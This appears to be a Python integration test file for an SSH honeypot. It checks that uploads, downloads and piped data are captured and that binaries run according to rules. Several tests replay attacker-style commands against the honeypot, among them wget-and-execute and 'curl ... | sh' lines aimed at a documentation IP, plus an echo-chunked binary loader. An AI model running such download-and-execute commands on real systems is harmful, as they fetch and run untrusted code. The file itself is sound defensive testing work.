"""What real clients bring is kept, and runs by rule."""

import hashlib
import os
import stat
import subprocess
import tempfile
import time
import unittest
from pathlib import Path
from typing import Any

from tests.integration.test_clients import OPTIONS, PASSWORD
from tests.support.elf import AMD64, MIPS, elf_file
from tests.support.running import RunningHoneypot

DOWNLOAD, UPLOAD = "cowrie.session.file_download", "cowrie.session.file_upload"
SLEEPER = elf_file(AMD64, tail=b"sleeper")
RULES = [{"sha256": hashlib.sha256(SLEEPER).hexdigest(), "does": "sleep", "seconds": 1000}]


def _escaped(data: bytes) -> str:
    return "".join(f"\\x{byte:02x}" for byte in data)


class CaptureTests(unittest.TestCase):
    """One honeypot that records downloads."""

    honeypot: RunningHoneypot

    @classmethod
    def setUpClass(cls) -> None:
        capture = {"fetch": "record", "run_default": "exit", "run": RULES}
        cls.honeypot = RunningHoneypot(accept=[f"root:{PASSWORD}"], capture=capture).__enter__()

    @classmethod
    def tearDownClass(cls) -> None:
        cls.honeypot.__exit__()

    def client(self, program: str, *words: str, stdin: bytes = b"") -> tuple[str, str, int]:
        """Run OpenSSH's *program*; ``{host}`` in a word is the honeypot."""
        port = "-p" if program == "ssh" else "-P"
        done = subprocess.run(
            ["sshpass", "-e", program, *OPTIONS, port, str(self.honeypot.port)]
            + [word.replace("{host}", "root@127.0.0.1") for word in words],
            input=stdin,
            capture_output=True,
            timeout=30,
            env={**os.environ, "SSHPASS": PASSWORD},
            check=False,
        )
        return done.stdout.decode(), done.stderr.decode(), done.returncode

    def ssh(self, command: str, stdin: bytes = b"") -> tuple[str, str, int]:
        """Run *command* on the honeypot."""
        return self.client("ssh", "{host}", command, stdin=stdin)

    def event(self, kind: str, data: bytes) -> dict[str, Any]:
        """The first event of *kind* that tells of *data*; its file holds it, for nobody but the operator."""
        sha256 = hashlib.sha256(data).hexdigest()
        end = time.monotonic() + 10
        while time.monotonic() < end:
            found = [e for e in self.honeypot.events(kind) if e["shasum"] == sha256]
            if found:
                path = Path(found[0]["outfile"])
                self.assertEqual(path.name, sha256)
                self.assertEqual(path.read_bytes(), data)
                self.assertEqual(stat.S_IMODE(path.stat().st_mode), 0o600)
                return found[0]
            time.sleep(0.1)
        raise AssertionError(f"no {kind} of {data[:40]!r}")

    def test_standard_input(self) -> None:
        """What ssh pipes into cat arrives whole, and its event names the file."""
        data = os.urandom(300_000)
        self.assertEqual(self.ssh("cat > /tmp/piped", data), ("", "", 0))
        self.assertEqual(self.event(DOWNLOAD, data)["destfile"], "/tmp/piped")

    def test_a_loader(self) -> None:
        """A file that many commands put together is one artifact, removed as it is."""
        data = elf_file(MIPS)
        pieces = [data[at : at + 20] for at in range(0, len(data), 20)]
        lines = [f"echo -ne '{_escaped(piece)}' >> .l" for piece in pieces]
        self.ssh("cd /tmp; " + "; ".join([*lines, "rm .l"]))
        self.event(DOWNLOAD, data)
        heads = {hashlib.sha256(data[:at]).hexdigest() for at in range(20, len(data), 20)}
        self.assertFalse(heads & {e["shasum"] for e in self.honeypot.events(DOWNLOAD)})

    def test_foreign_binary(self) -> None:
        """That of another processor is refused in bash's words."""
        out, err, status = self.ssh("cat > /tmp/m; chmod +x /tmp/m; cd /tmp; ./m", elf_file(MIPS, tail=b"m"))
        self.assertEqual((out, status), ("", 126))
        self.assertRegex(err, r"^bash: line 1: ./m: cannot execute binary file: Exec format error\n$")

    def test_own_binary(self) -> None:
        """A binary of the host's processor starts, is listed, outlives its session and its file."""
        self.ssh("cat > /tmp/sleeper; chmod 755 /tmp/sleeper", SLEEPER)
        self.assertEqual(self.ssh("cd /tmp; nohup ./sleeper -c conf >/dev/null 2>&1 &"), ("", "", 0))
        shown, _, _ = self.ssh("ps -eo args | grep [s]leeper")
        self.assertEqual(shown, "./sleeper -c conf\n")
        pid = self.ssh("pgrep -f sleeper")[0].split()[0]
        self.assertEqual(self.ssh(f"readlink /proc/{pid}/exe")[0], "/tmp/sleeper\n")
        self.assertEqual(self.ssh(f"rm -f /tmp/sleeper; readlink /proc/{pid}/exe")[0], "/tmp/sleeper (deleted)\n")
        self.assertEqual(self.ssh(f"kill {pid}; sleep 0.1; pgrep sleeper")[0], "")

    def test_unknown_binary(self) -> None:
        """Without a rule it does the default: here it ends."""
        self.assertEqual(self.ssh("cat > /tmp/u; chmod +x /tmp/u; /tmp/u", elf_file(AMD64)), ("", "", 0))
        self.event(DOWNLOAD, elf_file(AMD64))

    def test_download(self) -> None:
        """What is fetched is a placeholder of the right sort, and the next step works."""
        out, err, status = self.ssh("cd /tmp; wget http://198.51.100.9/bins/x86_64; chmod 777 x86_64; ./x86_64")
        self.assertEqual((out, status), ("", 0), err)
        found = [e for e in self.honeypot.events(DOWNLOAD) if e.get("url") == "http://198.51.100.9/bins/x86_64"]
        self.assertEqual(found[0]["destfile"], "/tmp/x86_64")
        self.assertEqual(self.ssh("curl -s http://198.51.100.9/a.sh | sh")[2], 0)
        self.assertIn("ELF 64-bit LSB executable, x86-64", self.ssh("file /tmp/x86_64")[0])

    def test_scp(self) -> None:
        """Both ways of scp's own protocol."""
        data = os.urandom(100_000)
        with tempfile.TemporaryDirectory() as directory:
            file = Path(directory, "up.bin")
            file.write_bytes(data)
            self.assertEqual(self.client("scp", "-O", str(file), "{host}:/tmp/")[2], 0)
            event = self.event(UPLOAD, data)
            self.assertEqual((event["filename"], event["destfile"]), ("up.bin", "/tmp/up.bin"))
            back = Path(directory, "back")
            self.assertEqual(self.client("scp", "-O", "{host}:/tmp/up.bin", str(back))[2], 0)
            self.assertEqual(back.read_bytes(), data)
